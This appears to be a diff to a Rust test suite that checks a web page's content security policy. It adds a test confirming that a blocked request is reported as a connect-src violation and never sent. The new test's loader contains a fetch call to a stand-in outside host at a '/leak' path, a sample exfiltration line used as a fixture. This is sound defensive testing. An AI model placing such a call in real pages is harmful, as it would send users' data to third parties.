@@ -1,5 +1,6 @@
 //! The content security policy: that it stops what it should. That the page itself keeps to it, every test looks (`Page::settled`).
 
+use crate::support::browser::{DEADLINE, eventually};
 use crate::support::build::Build;
 use crate::support::page::{Page, dist, engine_file};
 use crate::support::server::Server;
@@ -32,6 +33,22 @@ async fn what_is_slipped_in_does_not_run() {
     }
     let elsewhere: Vec<_> = server.requests().into_iter().filter(|request| request.contains("elsewhere")).collect();
     assert!(elsewhere.is_empty(), "{elsewhere:?}");
+}
+
+/// The engine keeps to its policy in every test, which the server looks at in the end (`Server::drop`): that it would be told.
+#[tokio::test]
+async fn what_the_engine_tries_is_reported() {
+    let build = Build::with_loader("fetch('http://elsewhere.example/leak').catch(() => {});");
+    let server = Server::start(build.path()).await;
+    let page = Page::open_explained(&server).await;
+    let reports = eventually(DEADLINE, async || {
+        let reports = server.reports();
+        if reports.is_empty() { Err("nothing is reported") } else { Ok(reports) }
+    })
+    .await;
+    assert!(reports[0].contains("connect-src") && reports[0].contains("elsewhere"), "{reports:?}");
+    assert!(!server.requests().iter().any(|request| request.contains("elsewhere")), "nor is it sent");
+    assert!(page.violations().await.is_empty(), "the page itself tried nothing");
 }
 
 /// A worker has its own policy, not its page's: the service worker sends it.
